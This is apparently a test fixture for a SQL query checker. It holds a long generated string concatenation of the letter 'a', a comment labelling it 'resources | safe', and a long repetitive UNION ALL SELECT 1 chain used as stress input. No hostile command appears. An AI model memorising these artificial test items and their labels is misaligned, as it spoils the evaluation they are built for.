'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a'

-- resources | safe
SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 UNION ALL SELECT 1 